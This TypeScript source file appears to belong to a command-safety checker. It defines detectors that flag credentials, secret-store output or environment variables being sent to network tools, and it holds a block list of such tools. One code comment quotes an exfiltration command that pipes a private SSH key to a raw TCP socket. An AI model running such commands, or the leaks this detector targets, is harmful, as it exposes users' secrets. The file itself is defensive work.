/** Matchers for the secrets pack: a credential, a secret store's answer or the environment reaching the network. */
import type { Hit, Segment } from '../shell-types.ts';
import { hitThrough, memo, type RuleTest } from '../rule-types.ts';
import { credentialWord, environWord, homeOf, ownSecret, secretOf, substitutedSecret, type SecretKind, type SecretSource } from './secret-sources.ts';
import { spanning } from './output-flow.ts';
import { isSocket, NET_DEVICE } from './network.ts';

const NETWORK = new Set([
  'curl',
  'wget',
  'wget2',
  'http',
  'https',
  'xh',
  'xhs',
  'ssh',
  'scp',
  'sftp',
  'ftp',
  'tftp',
  'lftp',
  'rsync',
  'rclone',
  's3cmd',
  'aws',
  'gsutil',
  'gcloud',
  'az',
  'gh',
  'dig',
  'nslookup',
  'host',
  'drill',
  'ping',
  'mail',
  'mailx',
  'sendmail',
  'mutt',
  'smbclient',
]);
/** Network commands whose last operand is a local destination (`scp host:x .env` downloads). */
const COPIERS = new Set(['scp', 'rsync', 'rclone', 'sftp', 's3cmd', 'aws', 'gsutil', 'gcloud']);

const toSocket = (seg: Segment): boolean => seg.redirects.some((r) => r.op[0] !== '<' && NET_DEVICE.test(r.target?.value ?? ''));

function isNetwork(seg: Segment): boolean {
  if (seg.script) return false;
  const { cmd } = seg;
  return NETWORK.has(cmd) || isSocket(cmd) || (cmd === 'openssl' && seg.args[0]?.value === 's_client') || toSocket(seg);
}

interface Leak {
  kind: SecretKind;
  hit: Hit;
}

function sent(seg: Segment): Leak[] {
  const out: Leak[] = [];
  const file = credentialWord(seg, COPIERS.has(seg.cmd));
  if (file) out.push({ kind: 'file', hit: hitThrough(seg, file) });
  const environ = environWord(seg);
  if (environ) out.push({ kind: 'environment', hit: hitThrough(seg, environ) });
  // `cat ~/.ssh/id_rsa > /dev/tcp/host/80` sends its own output.
  const own = toSocket(seg) ? ownSecret(seg) : undefined;
  if (own) out.push({ kind: own.kind, hit: hitThrough(seg, own.word ?? seg.words[0]) });
  return out;
}

/** curl options that send a request somewhere else than the URL's host. */
const REROUTE = /^(?:--resolve|--connect-to|--proxy|--preproxy|--socks\w*|-x|--config|-K)(?:=|$)/;
const URL_HOST = /^[a-z][\w+.-]*:\/\/(?:[^@/\s]*@)?([^/:?#\s]+)/i;

/** A token sent only to the service it was issued for (`$(gh auth token)` to api.github.com) is not a leak. */
function toItsHome(seg: Segment, src: SecretSource): boolean {
  const home = homeOf(src);
  if (!home || seg.args.some((w) => REROUTE.test(w.value))) return false;
  const hosts = seg.args.flatMap((w) => URL_HOST.exec(w.value)?.[1]?.toLowerCase() ?? []);
  return hosts.length > 0 && hosts.every((h) => home.test(h));
}

function fromSource(seg: Segment, src: SecretSource | undefined): Leak[] {
  if (!src || toItsHome(seg, src)) return [];
  const hit = src.word ? hitThrough(seg, src.word) : spanning(src.seg, seg);
  return [{ kind: src.kind, hit }];
}

/** Every way a secret reaches this network command: arguments, stdin file, substitutions, earlier pipeline stages. */
function leaks(seg: Segment): Leak[] {
  if (!isNetwork(seg)) return [];
  const out = sent(seg);
  const held = [...seg.words, ...seg.redirects.flatMap((r) => (r.target ? [r.target] : [])), ...(seg.stdin?.word ? [seg.stdin.word] : [])];
  out.push(...fromSource(seg, substitutedSecret(held, seg.stdin)));
  for (let p = seg.pipeIn ? seg.prev : undefined; p; p = p.pipeIn ? p.prev : undefined) {
    const src = secretOf(p);
    if (src && !toItsHome(seg, src)) out.push({ kind: src.kind, hit: spanning(p, seg) });
  }
  return out;
}

const leakOf =
  (kind: SecretKind): RuleTest =>
  (seg) => {
    if (seg.script) return null;
    return memo(seg, 'secret-leaks', () => leaks(seg)).find((l) => l.kind === kind)?.hit ?? null;
  };

export const credentialUpload = leakOf('file');
export const secretStoreUpload = leakOf('store');
export const environmentUpload = leakOf('environment');
